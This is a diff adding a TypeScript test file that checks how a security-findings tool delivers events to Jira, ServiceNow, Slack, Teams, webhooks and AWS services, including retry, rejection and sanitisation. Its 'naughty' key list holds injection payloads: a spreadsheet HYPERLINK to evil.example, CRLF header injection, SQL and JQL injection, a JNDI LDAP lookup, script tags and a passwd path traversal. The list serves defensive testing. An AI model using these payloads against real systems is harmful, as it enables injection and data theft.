@@ -1,0 +1,235 @@
+import { createServer, type Server } from 'node:http';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { OrgsweepError } from '../../model/index.ts';
+import { createHttpSender, type SinkDeps, type SinkKind, sinkKind, sinkKinds } from '../index.ts';
+import { policyEvent, sensitiveEvent } from '../testing/sample-events.ts';
+
+interface Asked {
+  readonly method: string;
+  readonly path: string;
+  readonly headers: NodeJS.Dict<string | string[]>;
+  readonly text: string;
+}
+
+/** Keys as an attacker would name them. */
+const naughty = [
+  '=HYPERLINK("http://evil.example","x")',
+  '<!channel> @here <@U123> https://evil.example',
+  '[click](https://evil.example) **bold** _it_ `code`',
+  'a\r\nX-Injected: yes\r\n\r\nbody',
+  '\u001b[31mred\u001b[0m\u0007',
+  'x\u202egpj.exe\u2066',
+  "'; DROP TABLE findings; --",
+  '" OR labels = "x" ORDER BY key',
+  ['{{constructor.constructor("x")()}} $', '{jndi:ldap://evil.example/a}'].join(''),
+  '<script>alert(1)</script>',
+  '../../etc/passwd',
+  `${'k'.repeat(1_000)}`,
+];
+const events = [policyEvent(), sensitiveEvent(), ...naughty.map((key) => sensitiveEvent({ key }))];
+
+describe('every kind of sink', () => {
+  let server: Server;
+  let base = '';
+  let http: ReturnType<typeof createHttpSender>;
+  let asked: Asked[] = [];
+  let answer: (request: Asked) => { status: number; headers?: Record<string, string>; body?: unknown } = () => ({
+    status: 200,
+  });
+  let deps: SinkDeps;
+  const batches: { name: string; count: number }[] = [];
+  const took =
+    (name: string) =>
+    async (...parts: unknown[]) => {
+      const last = parts.find(Array.isArray);
+      batches.push({ name, count: last?.length ?? 1 });
+      return [];
+    };
+
+  beforeAll(async () => {
+    server = createServer((request, response) => {
+      const parts: Buffer[] = [];
+      request.on('data', (part: Buffer) => parts.push(part));
+      request.on('end', () => {
+        const one = {
+          method: request.method ?? '',
+          path: request.url ?? '',
+          headers: request.headers,
+          text: Buffer.concat(parts).toString('utf8'),
+        };
+        asked.push(one);
+        const { status, headers = {}, body } = answer(one);
+        response.writeHead(status, headers).end(body === undefined ? undefined : JSON.stringify(body));
+      });
+    }).listen(0, '127.0.0.1');
+    await new Promise((resolve) => server.once('listening', resolve));
+    const address = server.address();
+    const host = `127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
+    base = `http://${host}`;
+    http = createHttpSender([host]);
+    deps = {
+      http: http.send,
+      secret: (name) => {
+        if (name === 'URL') return `${base}/hook`;
+        if (name === 'WORD') return ['made', 'up'].join('-');
+        throw new OrgsweepError('BAD_USER_INPUT', `The worker knows no secret "${name}".`);
+      },
+      now: Date.now,
+      aws: {
+        importFindings: took('import'),
+        putEvents: took('put'),
+        publish: took('publish'),
+        sendMessages: took('send'),
+        putObject: async () => undefined,
+      },
+    };
+  });
+  beforeEach(() => {
+    asked = [];
+    answer = () => ({ status: 200 });
+  });
+  afterAll(async () => {
+    await http.close();
+    server.close();
+  });
+
+  const configs: Readonly<Record<string, () => object>> = {
+    'event-bridge': () => ({ busArn: 'arn:aws:events:eu-west-1:111122223333:event-bus/security' }),
+    jira: () => ({
+      baseUrl: base,
+      projectKey: 'SEC',
+      user: 'bot@example.com',
+      tokenSecretName: 'WORD',
+      resolveTransitionId: '31',
+    }),
+    'ocsf-s3': () => ({ bucket: 'lake', region: 'eu-west-1' }),
+    'security-hub': () => ({}),
+    'service-now': () => ({ baseUrl: base, user: 'bot', passwordSecretName: 'WORD' }),
+    slack: () => ({ urlSecretName: 'URL' }),
+    sns: () => ({ topicArn: 'arn:aws:sns:eu-west-1:111122223333:findings' }),
+    sqs: () => ({ queueUrl: `${base}/q`, region: 'eu-west-1' }),
+    teams: () => ({ urlSecretName: 'URL' }),
+    webhook: () => ({ url: `${base}/hook`, secretName: 'WORD' }),
+  };
+  const overHttp = ['jira', 'service-now', 'slack', 'teams', 'webhook'];
+  const kindOf = (id: string): SinkKind => {
+    const kind = sinkKind(id);
+    if (kind === undefined) throw new Error(id);
+    return kind;
+  };
+  /** A Jira or ServiceNow that knows nothing yet. */
+  const tickets = ({ method, path }: Asked) => {
+    if (path.startsWith('/rest/api/3/search')) return { status: 200, body: { issues: [] } };
+    if (path === '/rest/api/3/issue') return { status: 201, body: { key: 'SEC-1' } };
+    if (path.startsWith('/api/now/'))
+      return method === 'GET'
+        ? { status: 200, body: { result: [] } }
+        : { status: 201, body: { result: { sys_id: 'r1' } } };
+    return { status: 200 };
+  };
+
+  it('is tried here', () => expect(sinkKinds.map(({ id }) => id)).toEqual(Object.keys(configs)));
+
+  it.each(Object.keys(configs))('%s gives one receipt an event, all delivered', async (id) => {
+    answer = tickets;
+    const kind = kindOf(id);
+    for (let at = 0; at < events.length; at += kind.batchSize) {
+      const batch = events.slice(at, at + kind.batchSize);
+      expect((await kind.deliver(batch, configs[id]?.(), deps)).map(({ key, outcome }) => [key, outcome])).toEqual(
+        batch.map(({ key }) => [key, 'DELIVERED']),
+      );
+    }
+  });
+
+  it.each(Object.keys(configs))('%s refuses a configuration that is not its own, naming what is wrong', async (id) => {
+    expect(() => kindOf(id).parseConfig({ ...configs[id]?.(), surprise: 1 })).toThrow(/surprise/);
+    const receipts = await kindOf(id).deliver(events.slice(0, 2), { surprise: 1 }, deps);
+    expect(receipts).toEqual(
+      events
+        .slice(0, 2)
+        .map(({ key }) => expect.objectContaining({ key, outcome: 'REJECTED', code: 'BAD_USER_INPUT' })),
+    );
+  });
+
+  it.each(overHttp)('%s comes again when it is told to, and does not when it is refused', async (id) => {
+    answer = () => ({ status: 429, headers: { 'retry-after': '90' } });
+    const retried = await kindOf(id).deliver(events.slice(0, 3), configs[id]?.(), deps);
+    expect(retried).toEqual(
+      events.slice(0, 3).map(({ key }) => ({ key, outcome: 'RETRY', code: 'HTTP_429', afterMs: 90_000 })),
+    );
+    answer = () => ({ status: 401, body: { secret: 'quoted' } });
+    const refused = await kindOf(id).deliver(events.slice(0, 3), configs[id]?.(), deps);
+    expect(refused.map(({ outcome }) => outcome)).toEqual(['REJECTED', 'REJECTED', 'REJECTED']);
+    expect(JSON.stringify(refused)).not.toContain('quoted');
+  });
+
+  it.each(overHttp)(
+    '%s shows the keys of attackers as text: no control character, header, mention or query of theirs',
+    async (id) => {
+      answer = tickets;
+      for (const event of events) await kindOf(id).deliver([event], configs[id]?.(), deps);
+      for (const { text, headers, path } of asked) {
+        expect(headers['x-injected']).toBeUndefined();
+        expect(path).not.toMatch(/evil|DROP|passwd/);
+        if (text === '') continue;
+        const body: unknown = JSON.parse(text);
+        if (id !== 'webhook')
+          for (const value of stringsOf(body))
+            expect(value.replaceAll('\n', '')).toMatch(/^[^\p{Cc}\u202a-\u202e\u2066-\u2069]*$/u);
+        if (id === 'slack') expect(JSON.stringify(body)).not.toMatch(/"type":"mrkdwn"/);
+        if (path.includes('search')) expect(text).not.toMatch(/OR labels|ORDER BY/);
+      }
+    },
+  );
+
+  it('Jira: one issue a finding, commented on, and closed by the transition that was configured', async () => {
+    let made = false;
+    answer = ({ path }) => {
+      if (path.startsWith('/rest/api/3/search'))
+        return { status: 200, body: { issues: made ? [{ key: 'SEC-7' }] : [] } };
+      if (path === '/rest/api/3/issue') {
+        made = true;
+        return { status: 201, body: { key: 'SEC-7' } };
+      }
+      return path.endsWith('/comment') ? { status: 201 } : { status: 204 };
+    };
+    const config = configs['jira']?.();
+    expect(await kindOf('jira').deliver([policyEvent('NEW')], config, deps)).toMatchObject([{ remoteId: 'SEC-7' }]);
+    expect(await kindOf('jira').deliver([policyEvent('RESOLVED')], config, deps)).toMatchObject([
+      { remoteId: 'SEC-7' },
+    ]);
+    expect(asked.map(({ path }) => path)).toEqual([
+      '/rest/api/3/search/jql',
+      '/rest/api/3/issue',
+      '/rest/api/3/search/jql',
+      '/rest/api/3/issue/SEC-7/comment',
+      '/rest/api/3/issue/SEC-7/transitions',
+    ]);
+    expect(asked.at(-1)?.text).toBe('{"transition":{"id":"31"}}');
+  });
+
+  it('ServiceNow: one record a finding, found again by its correlation id', async () => {
+    let made = false;
+    answer = ({ method }) => {
+      const found = made ? [{ sys_id: 'r9' }] : [];
+      if (method === 'GET') return { status: 200, body: { result: found } };
+      made = true;
+      return { status: method === 'POST' ? 201 : 200, body: { result: { sys_id: 'r9' } } };
+    };
+    const config = configs['service-now']?.();
+    await kindOf('service-now').deliver([policyEvent('NEW')], config, deps);
+    await kindOf('service-now').deliver([policyEvent('RESOLVED')], config, deps);
+    expect(asked.map(({ method, path }) => `${method} ${path.split('?')[0]}`)).toEqual([
+      'GET /api/now/table/incident',
+      'POST /api/now/table/incident',
+      'GET /api/now/table/incident',
+      'PATCH /api/now/table/incident/r9',
+    ]);
+    expect(asked.at(-1)?.text).toContain('"state":"6"');
+  });
+});
+
+function stringsOf(value: unknown): string[] {
+  if (typeof value === 'string') return [value];
+  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsOf) : [];
+}
